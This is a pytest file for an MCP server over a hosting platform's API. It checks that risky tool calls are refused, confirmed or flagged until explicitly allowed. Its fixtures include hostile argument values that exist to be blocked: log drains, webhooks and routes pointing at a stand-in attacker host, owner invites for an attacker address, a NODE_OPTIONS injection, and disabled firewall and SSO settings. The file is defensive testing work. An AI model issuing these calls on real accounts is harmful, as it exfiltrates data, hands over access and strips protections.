"""Calls that grant access, send data out, spend money, lower a protection or change production."""

from __future__ import annotations

from typing import Any

import mcp_types as types
import pytest

BODY = "request_body"
EVIL = "https://evil.example/in"
DELIVERY = {"type": "http", "endpoint": EVIL, "encoding": "json", "headers": {}}
PERIOD = {"start": "2026-01-01T00:00:00Z", "end": "2026-02-01T00:00:00Z"}
ITEM = {
    "billingPlanId": "p",
    "name": "n",
    "price": "1",
    "quantity": 1,
    "units": "u",
    "total": "99999",
}
INVOICE = {"externalId": "x", "invoiceDate": PERIOD["start"], "period": PERIOD, "items": [ITEM]}
DRAIN = {
    "name": "x",
    "projects": "all",
    "schemas": {"log": {"version": "v1"}},
    "delivery": DELIVERY,
}
STORE = {
    "name": "db",
    "integrationConfigurationId": "i",
    "integrationProductIdOrSlug": "p",
    "billingPlanId": "pro",
    "prepaymentAmountCents": 500000,
}
ROUTE = {"name": "x", "route": {"src": "/(.*)", "dest": f"{EVIL}/$1"}}
VARIABLE = {
    "key": "NODE_OPTIONS",
    "value": "--require x",
    "type": "plain",
    "target": ["production"],
}
PREVIEW = {**VARIABLE, "target": ["preview"]}
EDGE_CONFIG = {"edge_config_id": "ecfg_1"}
FLAG = {"project_id_or_name": "p", "flag_id_or_slug": "f"}
GATED: list[tuple[str, dict[str, Any], str]] = [
    (
        "teams_invite_user_to_team",
        {"team_id": "t", BODY: [{"email": "evil@x.example", "role": "OWNER"}]},
        "access",
    ),
    ("teams_update_team_member", {"team_id": "t", "uid": "u", BODY: {"role": "OWNER"}}, "access"),
    (
        "project_members_add_project_member",
        {"id_or_name": "p", BODY: {"email": "evil@x.example", "role": "ADMIN"}},
        "access",
    ),
    ("drains_create_drain", {BODY: DRAIN}, "outward"),
    ("drains_update_drain", {"id": "d", BODY: {"delivery": DELIVERY}}, "outward"),
    (
        "log_drains_create_log_drain",
        {BODY: {"name": "x", "url": EVIL, "deliveryFormat": "json"}},
        "outward",
    ),
    ("webhooks_create_webhook", {BODY: {"url": EVIL, "events": ["deployment.created"]}}, "outward"),
    ("project_routes_add_route", {"project_id": "p", BODY: {"route": ROUTE}}, "outward"),
    (
        "security_update_firewall_config",
        {"project_id": "p", BODY: {"action": "firewallEnabled", "id": None, "value": False}},
        "protection",
    ),
    (
        "security_update_attack_challenge_mode",
        {BODY: {"projectId": "p", "attackModeEnabled": False}},
        "protection",
    ),
    ("teams_patch_team", {"team_id": "t", BODY: {"saml": {"enforced": False}}}, "protection"),
    (
        "security_add_bypass_ip",
        {"project_id": "p", BODY: {"allSources": True, "projectScope": True}},
        "protection",
    ),
    (
        "projects_update_project",
        {"id_or_name": "p", BODY: {"ssoProtection": {}}},
        "protection",
    ),
    ("projects_update_project", {"id_or_name": "p", BODY: {"publicSource": True}}, "exposes"),
    ("projects_pause_project", {"project_id": "p"}, "stops"),
    ("projects_request_rollback", {"project_id": "p", "deployment_id": "d"}, "stops"),
    ("projects_request_promote", {"project_id": "p", "deployment_id": "d"}, "stops"),
    ("projects_create_project_env", {"id_or_name": "p", BODY: VARIABLE}, "stops"),
    ("projects_create_project_env", {"id_or_name": "p", BODY: [VARIABLE]}, "stops"),
    (
        "deployments_create_deployment",
        {BODY: {"name": "x", "project": "p", "target": "production"}},
        "stops",
    ),
    ("aliases_assign_alias", {"id": "d", BODY: {"alias": "www.example.com"}}, "stops"),
    ("projects_add_project_domain", {"id_or_name": "p", BODY: {"name": "example.com"}}, "stops"),
    (
        "bulk_redirects_update_version",
        {"project_id": "p", BODY: {"id": "v", "action": "promote"}},
        "stops",
    ),
    ("marketplace_submit_invoice", {"integration_configuration_id": "i", BODY: INVOICE}, "money"),
    ("integrations_create_integration_store_direct", {BODY: STORE}, "money"),
    (
        "domains_registrar_update_domain_auto_renew",
        {"domain": "x.example", BODY: {"autoRenew": True}},
        "money",
    ),
    (
        "projects_update_project",
        {"id_or_name": "p", BODY: {"skewProtectionAllowedDomains": ["evil.example"]}},
        "protection",
    ),
    ("projects_update_project", {"id_or_name": "p", BODY: {"rootDirectory": "other"}}, "stops"),
    ("projects_update_project", {"id_or_name": "p", BODY: {"outputDirectory": None}}, "stops"),
    ("feature_flags_update_flag", {**FLAG, BODY: {"seed": 0}}, "stops"),
    (
        "feature_flags_update_flag_settings",
        {"project_id_or_name": "p", BODY: {"environments": []}},
        "stops",
    ),
    ("projects_edit_project_env", {"id_or_name": "p", "id": "e", BODY: {"value": ""}}, "deletes"),
    (
        "environment_update_shared_env_variable",
        {BODY: {"updates": {"env_1": {"value": ""}}}},
        "deletes",
    ),
    ("edge_config_patch_edge_config_schema", {**EDGE_CONFIG, BODY: {"definition": {}}}, "deletes"),
    (
        "marketplace_update_resource",
        {"integration_configuration_id": "i", "resource_id": "r", BODY: {"secrets": []}},
        "deletes",
    ),
    ("feature_flags_update_flag", {**FLAG, BODY: {"variants": []}}, "stops"),
    (
        "feature_flags_update_flag_segment",
        {"project_id_or_name": "p", "segment_id_or_slug": "s", BODY: {"data": {}}},
        "stops",
    ),
    ("projects_create_project_env", {"id_or_name": "p", "upsert": "1", BODY: PREVIEW}, "deletes"),
]
GATED += [
    ("teams_remove_team_member", {"team_id": "t", "uid": "u"}, "deletes"),
    ("user_request_delete", {BODY: {}}, "deletes"),
    (
        "domains_registrar_update_domain_nameservers",
        {"domain": "x.example", BODY: {"nameservers": ["evil.example"]}},
        "outward",
    ),
    (
        "domains_registrar_update_domain_auto_renew",
        {"domain": "x.example", BODY: {"autoRenew": False}},
        "stops",
    ),
    (
        "domains_patch_domain",
        {"domain": "x.example", BODY: {"op": "move-out", "destination": "evil"}},
        "access",
    ),
    ("projects_create_project_transfer_request", {"id_or_name": "p", BODY: {}}, "access"),
    ("projects_accept_project_transfer_request", {"code": "c", BODY: {}}, "access"),
    ("aliases_patch_url_protection_bypass", {"id": "a", BODY: {"ttl": 100}}, "access"),
    (
        "projects_update_project",
        {"id_or_name": "p", BODY: {"gitForkProtection": False}},
        "protection",
    ),
    (
        "projects_update_project",
        {"id_or_name": "p", BODY: {"protectedSourcemaps": False}},
        "exposes",
    ),
]
PLAIN: list[tuple[str, dict[str, Any]]] = [
    ("projects_update_project", {"id_or_name": "p", BODY: {"name": "new"}}),
    ("deployments_create_deployment", {BODY: {"name": "x", "project": "p"}}),
    (
        "projects_create_project_env",
        {"id_or_name": "p", BODY: PREVIEW},
    ),
    ("drains_update_drain", {"id": "d", BODY: {"name": "other"}}),
    ("teams_patch_team", {"team_id": "t", BODY: {"name": "other"}}),
]


def name(call: tuple[Any, ...]) -> str:
    return f"{call[0]}-{call[-1]}"


@pytest.fixture(autouse=True)
def _new_platform(platform):
    platform.reset()


@pytest.mark.parametrize("call", GATED, ids=name)
async def test_a_call_with_an_effect_is_refused_and_not_sent(connect, platform, call):
    tool, arguments, kind = call
    async with connect() as client:
        result = await client.call_tool(tool, arguments)
    assert platform.requests == []
    assert result.is_error
    assert result.structured_content["error"]["type"] == "Refused"
    assert f"--allow {kind}" in result.structured_content["error"]["message"]


@pytest.mark.parametrize("call", GATED, ids=name)
async def test_a_call_with_an_effect_is_asked_about_and_not_sent_before(connect, platform, call):
    tool, arguments, _ = call
    questions = []

    async def decline(_: Any, params: Any) -> Any:
        questions.append(params.message)
        assert platform.requests == []
        return types.ElicitResult(action="decline")

    async with connect(answer=decline, ask=True) as client:
        result = await client.call_tool(tool, arguments)
    assert result.is_error
    assert platform.requests == []
    assert len(questions) == 1
    assert tool in questions[0]


@pytest.mark.parametrize("call", GATED, ids=name)
async def test_a_tool_whose_calls_may_have_an_effect_is_annotated_as_destructive(connect, call):
    async with connect() as client:
        listed = {tool.name: tool for tool in (await client.list_tools()).tools}
    assert listed[call[0]].annotations.destructive_hint is True


@pytest.mark.parametrize("call", GATED, ids=name)
async def test_the_three_tools_refuse_the_same_calls(connect, platform, call):
    tool, arguments, _ = call
    async with connect(dynamic=True) as client:
        given = {"method": tool, "arguments": arguments}
        assert (await client.call_tool("call_method", given)).is_error
    assert platform.requests == []


@pytest.mark.parametrize("call", PLAIN, ids=lambda call: call[0])
async def test_a_plain_write_is_sent_without_an_option(connect, platform, call):
    async with connect() as client:
        result = await client.call_tool(*call)
    assert not result.is_error, result.content
    assert len(platform.requests) == 1


async def test_gated_calls_are_refused_by_a_server_process(spawn, platform):
    async with spawn() as client:
        for tool, arguments, _ in GATED:
            assert (await client.call_tool(tool, arguments)).is_error, tool
    assert platform.requests == []


async def test_the_options_of_all_effects_of_a_call_are_named_and_permit_it(spawn, platform):
    call = ("projects_delete_project", {"id_or_name": "p"})
    async with spawn() as client:
        refused = await client.call_tool(*call)
    assert "--allow deletes --allow stops" in refused.content[0].text
    async with spawn("--allow", "deletes", HOSTING_SDK_MCP_ALLOW="stops, money") as client:
        assert not (await client.call_tool(*call)).is_error
    assert len(platform.requests) == 1
